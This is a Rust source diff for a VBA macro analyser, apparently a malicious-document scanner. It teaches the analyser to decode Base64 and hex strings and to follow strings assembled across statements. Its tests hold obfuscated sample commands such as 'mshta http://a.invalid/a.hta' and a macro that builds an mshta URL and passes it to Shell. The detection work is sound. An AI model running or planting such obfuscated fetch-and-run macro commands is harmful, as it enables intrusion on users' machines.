@@ -12,6 +12,8 @@ mod lex;
 mod sight;
 mod words;
 
+use std::collections::BTreeMap;
+
 pub use graph::{
     AutoStart, Caller, ProcedureId, Reached, auto_start, reachable_from, reachable_from_auto_exec,
 };
@@ -23,6 +25,7 @@ use self::sight::Sights;
 use self::words::{NO_WORD, Words};
 use crate::base::{Cx, LimitHit};
 use crate::documents::workbook::{TextId, Texts};
+use crate::indicators::command::decoded;
 
 /// Names of one module that calls are followed by. A module of 65,536 lines, the editor's limit,
 /// has fewer.
@@ -104,7 +107,8 @@ struct Literal {
 /// A constant text as [`SourceView::literals`] gives it.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct ConstantText<'v> {
-    /// The text, with `&`, `Chr`, `StrReverse`, `Replace` and named constants worked out.
+    /// The text, with `&`, `Chr`, `StrReverse`, `Replace`, `Mid`, `Join` and named constants worked out;
+    /// also what a text in Base64 or hexadecimal digits says, and what several statements put together.
     pub text: &'v str,
     /// Line that it begins in, from 1.
     pub line: u32,
@@ -197,6 +201,7 @@ pub fn view(text: &str, shared: &Shared, into: &mut SourceView, cx: &mut Cx<'_>)
         open: None,
         first_literal: 0,
         calls_by_text: false,
+        locals: BTreeMap::new(),
     };
     viewing.learn(shared);
     let result = viewing.statements(cx);
@@ -217,6 +222,19 @@ struct Viewing<'t, 'v> {
     first_literal: usize,
     /// Whether that procedure calls something by a text.
     calls_by_text: bool,
+    /// Texts of its variables, by the index of their name.
+    locals: BTreeMap<u32, Local<'t>>,
+}
+
+/// A variable whose text is constant so far.
+struct Local<'t> {
+    text: String,
+    /// Line of the statement that it got its text from last.
+    line: u32,
+    /// That statement.
+    excerpt: &'t str,
+    /// Whether it was more than one.
+    grown: bool,
 }
 
 impl<'t> Viewing<'t, '_> {
@@ -251,6 +269,8 @@ impl<'t> Viewing<'t, '_> {
     fn end(&mut self, cx: &mut Cx<'_>) {
         self.close(self.into.line_count);
         self.sights.finish(self.into);
+        // What several statements put together was kept behind them.
+        self.into.literals.sort_by_key(|literal| literal.line);
         if self.words.full {
             cx.abandoned(0..0, &format!("more than {NAMES} names: calls by the others are not followed"));
         }
@@ -282,6 +302,8 @@ impl<'t> Viewing<'t, '_> {
         folds.clear();
         if folds_some {
             fold::fold(tokens, &self.constants, &mut self.allowance, folds);
+            self.decode(folds);
+            self.grow(tokens, folds);
         }
         if declares && tokens.iter().take(3).any(|token| token.is_word("Const")) {
             self.name_constants(tokens, folds);
@@ -297,6 +319,65 @@ impl<'t> Viewing<'t, '_> {
         if acts || !folds.is_empty() {
             self.sights.statement(tokens, folds, self.text, self.open, self.into);
         }
+    }
+
+    /// Puts behind each text that is written in Base64 or as hexadecimal digits what it says.
+    fn decode(&mut self, folds: &mut Vec<Fold>) {
+        let mut plain: Vec<Fold> = Vec::new();
+        for fold in folds.iter() {
+            if let Some(text) = decoded(&fold.text) {
+                plain.push(Fold { text, joined: true, ..*fold });
+            }
+        }
+        if !plain.is_empty() {
+            folds.append(&mut plain);
+            // Texts of one place keep their order.
+            folds.sort_by_key(|fold| fold.first);
+        }
+    }
+
+    /// Follows a variable that is given a constant text, and more of it by `name = name & "more"`.
+    fn grow(&mut self, tokens: &[Token<'t>], folds: &[Fold]) {
+        const LEN: usize = 1 << 15;
+        let [name, equals, rest @ ..] = tokens else { return };
+        if self.open.is_none() || name.word == NO_WORD || !equals.is_symbol(b'=') {
+            return;
+        }
+        let whole = |from: usize| {
+            let is_whole = |fold: &&Fold| fold.first == from && fold.last.saturating_add(1) == tokens.len();
+            folds.iter().find(is_whole).map(|fold| fold.text.as_str())
+        };
+        if let Some(text) = whole(2) {
+            if let Some(local) = self.locals.remove(&name.word) {
+                self.end_local(&local);
+            }
+            let local = Local { text: text.to_owned(), line: name.line, excerpt: "", grown: false };
+            self.locals.insert(name.word, local);
+            return;
+        }
+        let [same, join, ..] = rest else { return };
+        let grows = same.word == name.word && (join.is_symbol(b'&') || join.is_symbol(b'+'));
+        let Some(more) = whole(4).filter(|_| grows) else { return };
+        if let Some(local) = self.locals.get_mut(&name.word)
+            && local.text.len().saturating_add(more.len()) <= LEN
+        {
+            local.text.push_str(more);
+            local.line = name.line;
+            local.excerpt = excerpt(self.text, tokens);
+            local.grown = true;
+        }
+    }
+
+    /// Keeps what a variable was given in several statements.
+    fn end_local(&mut self, local: &Local<'_>) {
+        if !local.grown {
+            return;
+        }
+        if let Some(text) = self.into.texts.push(&local.text) {
+            let procedure = self.open.unwrap_or(u32::MAX);
+            self.into.literals.push(Literal { text, line: local.line, procedure, joined: true });
+        }
+        self.sights.put_together(&local.text, local.line, self.open, local.excerpt, self.into);
     }
 
     /// Takes a header or an end of a procedure, a `Declare` statement, or an attribute.
@@ -375,6 +456,9 @@ impl<'t> Viewing<'t, '_> {
     }
 
     fn close(&mut self, line: u32) {
+        for local in std::mem::take(&mut self.locals).values() {
+            self.end_local(local);
+        }
         let Some(open) = self.open.take() else { return };
         if self.calls_by_text {
             self.names_in_texts(open);
@@ -513,6 +597,12 @@ mod tests {
         assert_eq!(text_of("s = StrReverse(\"llehs\" & \"rewop\")"), ["powershell"]);
         assert_eq!(text_of("s = Replace(\"hXXp\", \"X\", \"t\") & LCase(\"A\")"), ["httpa"]);
         assert_eq!(text_of("s = (\"a\" & (\"b\")) & 5"), ["ab5"]);
+        assert_eq!(text_of("s = Mid(\"xabcx\", 2, 3) & Left(\"dxx\", 1) & Right$(\"xxe\", 1)"), ["abcde"]);
+        assert_eq!(
+            text_of("s = Mid(\"xab\", 2) & Mid(\"a\", 5) & Join(Array(\"c\", \"d\"), \"\")"),
+            ["abcd"]
+        );
+        assert_eq!(text_of("s = Join(Array(\"a\", \"b\")): t = Array(\"c\", \"d\")"), ["a b", "c", "d"]);
         assert_eq!(
             text_of("Const A = \"x\"\nConst N = 1, B As String = A & \"y\"\ns = B & B & \"!\""),
             ["x", "xy", "xyxy!"]
@@ -526,6 +616,20 @@ mod tests {
         assert_eq!(text_of("s = obj.Chr(65) & \"a\""), ["a"]);
         assert_eq!(text_of("s = Chr(3 + 4 * 20) & Chr(5 Xor 2 + 1)"), Vec::<String>::new());
         assert_eq!(text_of("f \"a\", \"b\": g(\"c\")(\"d\")"), ["a", "b", "c", "d"]);
+    }
+
+    #[test]
+    fn texts_that_are_encoded_or_put_together_are_shown_in_clear() {
+        let base64 = "bXNodGEgaHR0cDovL2EuaW52YWxpZC9hLmh0YQ==";
+        assert_eq!(text_of(&format!("s = F(\"{base64}\")")), [base64, "mshta http://a.invalid/a.hta"]);
+        let hex = "6d7368746120612e696e76616c6964";
+        assert_eq!(text_of(&format!("s = F(\"{hex}\")")), [hex, "mshta a.invalid"]);
+        assert_eq!(text_of("s = \"CommandButton1Click\""), ["CommandButton1Click"]);
+        let code =
+            "Sub S()\na = \"mshta \"\na = a & \"http\" & \"://\"\na = a & x\na = a + \"a\"\nShell a\nEnd Sub";
+        let whole = "mshta http://a".to_owned();
+        assert!(texts(code).contains(&(whole.clone(), 5)));
+        assert!(actions(code).contains(&(Action::CommandText, 5, Some(whole))));
     }
 
     #[test]
